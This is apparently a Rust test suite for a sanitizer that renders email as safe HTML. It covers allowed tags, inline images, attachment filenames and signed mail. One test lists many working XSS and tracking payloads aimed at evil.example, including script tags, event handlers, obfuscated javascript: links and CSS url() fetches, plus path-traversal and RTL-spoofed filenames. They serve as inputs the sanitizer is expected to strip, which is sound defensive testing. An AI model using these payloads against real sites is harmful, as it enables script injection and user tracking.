use bytes::Bytes;

use super::{attachments, document, fragment, unsealed};
use crate::message::Message;
use crate::protect::tests_kit::{Like, installed, message, person, run};

fn html(body: &str) -> String {
    let mail = message(&format!("From: a@b.example\nContent-Type: text/html; charset=utf-8\n\n{body}\n"));
    let fragment = fragment(&mail);
    let inner = fragment.strip_prefix("<div>").and_then(|rest| rest.strip_suffix("</div>\n"));
    inner.unwrap().trim_end().to_owned()
}

#[test]
fn what_is_allowed_stays_and_what_is_open_is_closed() {
    let kept = "<p style=\"color:red;\">Dear <b>Zoë</b> &amp; all</p><table border=\"1\"><tr><td colspan=\"2\">1 &lt; 2</td></tr></table>";
    assert_eq!(html(kept), kept);
    assert_eq!(html("<div><b>x"), "<div><b>x\n</b></div>");
    assert_eq!(html("x</div></div></main></body>y</b>"), "xy");
    assert_eq!(html("<o:p>x</o:p><custom-thing>y</custom-thing>"), "xy");
    assert_eq!(
        html("<body bgcolor=\"#000\" text=\"white\">x</body>").trim(),
        "<div style=\"background-color:#000;color:white;\">x\n</div>"
    );
}

#[test]
fn nothing_runs_and_nothing_is_fetched() {
    for attack in [
        "<script>alert(1)</script>",
        "<script src=https://evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://evil.example/pixel.gif>",
        "<img src=//evil.example/pixel.gif srcset=https://evil.example/2.gif>",
        "<svg onload=alert(1)><image href=https://evil.example/a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example></object><embed src=https://evil.example>",
        "<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<style>@import 'https://evil.example/a.css';body{background:url(https://evil.example)}</style>",
        "<p style=\"background:url(https://evil.example/a)\">",
        "<p style=\"background:\\75rl(https://evil.example/a);width:expression(alert(1))\">",
        "<p style=\"background-image:url(https://evil.example/a);position:fixed;top:0\">",
        "<table background=https://evil.example/a><tr><td background=https://evil.example/b>",
        "<a href=\"javascript:alert(1)\">",
        "<a href=\"java\tscript:alert(1)\">",
        "<a href=\" \u{1}javascript:alert(1)\">",
        "<a href=\"&#106;avascript:alert(1)\">",
        "<a href=\"data:text/html,<script>alert(1)</script>\">",
        "<form action=https://evil.example><input name=q><button>Send</button></form>",
        "<video src=https://evil.example/v poster=https://evil.example/p></video><audio src=https://evil.example/a></audio>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>",
        "<template><script>alert(1)</script></template>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<a title=\"x\" onclick=alert(1) id=a class=b name=c target=_top>",
        "<<script>alert(1)//<</script>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<plaintext><img src=x onerror=alert(1)>",
    ] {
        let shown = html(attack).to_lowercase();
        for tag in tags(&shown) {
            for bad in [
                "script",
                "evil.example",
                "onerror",
                "onload",
                "onclick",
                "srcset",
                "svg",
                "form",
                "input",
                "iframe",
                "object",
                "url(",
                "expression",
                "position",
                "background=",
                "id=",
                "class=",
                "name=",
                "_top",
                "style>",
                "meta",
                "link",
                "base ",
                "video",
                "data:",
            ] {
                assert!(!tag.contains(bad), "{bad} of {attack} is left: {shown}");
            }
        }
    }
}

/// Every tag in HTML that a tokenizer sees: what stands between `<` and `>` outside of text, which is escaped.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or(rest)).collect()
}

#[test]
fn what_stands_in_scripts_and_styles_is_not_shown_and_what_is_in_unknown_elements_is() {
    assert_eq!(html("a<style>p{color:red}</style>b<script>if(1<2)x()</script>c<title>d</title>e"), "abce");
    assert_eq!(html("a<template>b<template>c</template>d</template>e"), "ae");
    assert_eq!(html("<svg><text>drawn</text></svg> <select><option>one</select>").trim(), "drawn one");
}

#[test]
fn links_lead_out_without_saying_whence() {
    assert_eq!(
        html("<a href=\"https://example.com/?a=1&amp;b=2\">x</a>"),
        "<a href=\"https://example.com/?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>"
    );
    assert!(html("<a href=\"MAILTO:a@b.example\">x</a>").contains("href=\"MAILTO:a@b.example\""));
}

fn with_picture(html: &str, picture: &str) -> Message {
    message(&format!(
        "From: a@b.example\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n{html}\n--b\n\
         Content-Type: image/png; name=logo.png\nContent-ID: <logo@1>\nContent-Transfer-Encoding: base64\n\n{picture}\n--b--\n"
    ))
}

#[test]
fn pictures_of_the_mail_stand_in_the_page() {
    let shown =
        fragment(&with_picture("<img src=\"cid:logo@1\" alt=\"Our logo\" width=10><img src=\"CID:logo%401\">", "iVBORw0KGgoA"));
    assert!(shown.contains("<img src=\"data:image/png;base64,iVBORw0KGgoA\" alt=\"Our logo\" width=\"10\">"), "{shown}");
    assert_eq!(shown.matches("data:image/png").count(), 2);
    let svg = fragment(&with_picture("<img src=\"cid:logo@1\" alt=\"Our logo\">", "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"));
    assert!(!svg.contains("data:") && svg.contains("[Our logo]"), "a picture by its bytes: {svg}");
    assert!(fragment(&with_picture("<img src=\"cid:nosuch\" alt=\"Lost\">", "iVBORw0KGgoA")).contains("[Lost]"));
}

#[test]
fn a_picture_shown_ten_thousand_times_does_not_grow_the_page_beyond_bound() {
    let picture = format!("iVBORw0KGgoA{}", "AAAA".repeat(20_000));
    let mail = with_picture(&"<img src=\"cid:logo@1\">".repeat(10_000), &picture);
    let shown = fragment(&mail);
    assert!(shown.len() < 4 * mail.raw().len(), "{} of {}", shown.len(), mail.raw().len());
}

#[test]
fn depth_and_length_cost_no_more_than_their_size() {
    for (open, times) in [
        ("<div>", 200_000),
        ("<b x=", 200_000),
        ("<p>", 200_000),
        ("<table><tr><td>", 60_000),
        ("</div>", 200_000),
        ("<!--", 200_000),
    ] {
        let shown = html(&open.repeat(times));
        assert!(shown.len() <= 3 * open.len() * times + 10_000);
        assert!(shown.matches("<div").count() <= 256);
    }
}

#[test]
fn a_text_keeps_its_lines_and_its_addresses_can_be_followed() {
    let mail = message("From: a@b.example\n\nDear <all>,\n  see https://example.com/a?b=1&c=2.\n(http://x.example)\nhttps://\n");
    assert_eq!(
        fragment(&mail).replace("\r\n", "\n"),
        "<div><div style=\"white-space:pre-wrap\" dir=\"auto\">Dear &lt;all&gt;,\n  see \
         <a rel=\"noopener noreferrer nofollow\" target=\"_blank\" href=\"https://example.com/a?b=1&amp;c=2\">https://example.com/a?b=1&amp;c=2</a>.\n\
         (<a rel=\"noopener noreferrer nofollow\" target=\"_blank\" href=\"http://x.example\">http://x.example</a>)\nhttps://\n</div></div>\n"
    );
}

#[test]
fn of_alternatives_one_is_shown_and_an_invitation_is_a_file() {
    let mail = message(
        "From: a@b.example\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nplain\n\
         --b\nContent-Type: text/html\n\n<i>rich</i>\n--b\nContent-Type: text/calendar\n\nBEGIN:VCALENDAR\n--b--\n",
    );
    let shown = fragment(&mail);
    assert!(shown.contains("<i>rich</i>") && !shown.contains("plain"), "{shown}");
    assert_eq!(attachments(&mail).iter().map(|file| file.name.as_str()).collect::<Vec<_>>(), ["attachment-1.ics"]);
}

#[test]
fn what_is_signed_is_shown_and_its_seal_is_no_file() {
    let mail = message(
        "From: a@b.example\nContent-Type: multipart/signed; boundary=s\n\n--s\nContent-Type: text/plain\n\nwords\n\
         --s\nContent-Type: application/pkcs7-signature; name=smime.p7s\n\nxx\n--s--\n",
    );
    assert!(fragment(&mail).contains("words"));
    assert!(attachments(&mail).is_empty());
}

fn names(files: &[&str]) -> Vec<String> {
    let mut mail = String::from("From: a@b.example\nContent-Type: multipart/mixed; boundary=b\n\n");
    for file in files {
        let coded: String = file.bytes().map(|b| format!("%{b:02X}")).collect();
        mail.push_str(&format!(
            "--b\nContent-Type: application/pdf\nContent-Disposition: attachment;\n filename*=utf-8''{coded}\n\nx\n"
        ));
    }
    mail.push_str("--b--\n");
    attachments(&message(&mail)).into_iter().map(|file| file.name).collect()
}

#[test]
fn names_of_files_are_safe_and_unlike() {
    assert_eq!(
        names(&[
            "report.pdf",
            "Report.PDF",
            "../../etc/passwd",
            "C:\\Windows\\a?.exe",
            "message.html",
            "",
            "...",
            "CON.txt",
            "com1",
            "tricky\u{202e}fdp.exe",
            "a\u{0}b\r\nc.txt"
        ]),
        [
            "report.pdf",
            "Report (3).PDF",
            "passwd",
            "a_.exe",
            "message (6).html",
            "attachment-6.pdf",
            "attachment-7.pdf",
            "_CON.txt",
            "_com1",
            "trickyfdp.exe",
            "a b  c.txt",
        ]
    );
    let long = names(&[&format!("{}.pdf", "ü".repeat(300))]).remove(0);
    assert!(long.len() <= 130 && long.ends_with(".pdf"), "{long}");
    let many = names(&vec!["same.txt"; 3000]);
    assert_eq!(many.iter().collect::<std::collections::HashSet<_>>().len(), 3000);
}

#[test]
fn a_mail_in_the_mail_is_one_file() {
    let mail = message(
        "From: a@b.example\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee below\n\
         --b\nContent-Type: message/rfc822\n\nSubject: inner\n\nwords\n--b--\n",
    );
    let files = attachments(&mail);
    assert_eq!(
        files.iter().map(|file| (file.name.as_str(), file.media.as_str())).collect::<Vec<_>>(),
        [("attachment-1.eml", "message/rfc822")]
    );
    assert!(!fragment(&mail).contains("words"));
}

#[test]
fn the_page_stands_alone_and_its_header_cannot_break_out() {
    let mail = message(
        "From: \"</title><script>alert(1)</script>\" <a@b.example>\nSubject: </title><script>x</script>\nTo: p@example.com\n\nwords\n",
    );
    let page = document(&mail);
    assert!(page.starts_with("<!DOCTYPE html>") && page.contains("default-src 'none'"));
    assert!(!page.contains("<script") && page.matches("</title>").count() == 1, "{page}");
    assert!(!page.contains("http://") && !page.contains("https://"));
}

#[test]
fn words_inside_a_signature_are_shown_as_the_mails_own() {
    if !installed("openssl") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    person(Like::default()).write(folder.path(), "by");
    let mut openssl = std::process::Command::new("openssl");
    openssl.current_dir(folder.path()).args(["cms", "-sign", "-nodetach", "-signer", "by.pem", "-inkey", "by.key"]);
    let signed = run(&mut openssl, "Content-Type: text/html; charset=utf-8\r\n\r\n<b>Zoë</b>\r\n".as_bytes());
    let mail = message(&format!("From: a@b.example\nSubject: s\n{}", String::from_utf8(signed).unwrap()));
    assert_eq!(mail.root().content_type.media, "application/pkcs7-mime");
    let opened = unsealed(&mail);
    assert!(fragment(&opened).contains("<b>Zoë</b>") && attachments(&opened).is_empty());
    assert_eq!((opened.subjects(), opened.values("from")), (vec!["s".to_owned()], vec!["a@b.example".to_owned()]));
    let plain = message("From: a@b.example\n\nx\n");
    assert_eq!(unsealed(&plain).raw(), plain.raw());
}

proptest::proptest! {
    /// What is written has no second reading: cleaned again it is the same.
    #[test]
    fn what_was_cleaned_is_clean(pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)) {
        let once = html(&pieces.concat());
        proptest::prop_assert_eq!(html(&once), once);
    }
}

/// What HTML of strangers is made of, whole and broken.
const PIECES: &[&str] = &[
    "<",
    ">",
    "</",
    "/>",
    "\"",
    "'",
    "=",
    " ",
    "&",
    "&lt;",
    "&#60;",
    "&amp;lt;",
    "<!--",
    "-->",
    "<!",
    "<?",
    "<![CDATA[",
    "]]>",
    "<p",
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "</b>",
    "<a href=",
    "<a href=\"https://x.example\">",
    "</a>",
    "<img src=",
    "<img alt=\"",
    "<img alt='<b>'>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "<title>",
    "</title>",
    "<textarea>",
    "</textarea>",
    "<xmp>",
    "</xmp>",
    "<noscript>",
    "</noscript>",
    "<iframe>",
    "</iframe>",
    "<template>",
    "</template>",
    "<svg>",
    "</svg>",
    "<math>",
    "<table>",
    "<tr><td>",
    "</table>",
    "<body bgcolor=red>",
    " style=\"",
    "color:red;",
    "url(x)",
    "background:blue",
    " title=",
    " onclick=x",
    "javascript:x",
    "text",
    "é",
    "\0",
    "\n",
];

#[test]
fn any_bytes_give_a_page() {
    for raw in [
        b"".as_slice(),
        b"\xff\xfe\x00",
        b"Content-Type: multipart/mixed; boundary=\n\n--\n",
        b"Content-Type: text/html; charset=utf-16\n\n<\xff",
    ] {
        let _ = document(&Message::parse(Bytes::copy_from_slice(raw)));
    }
}
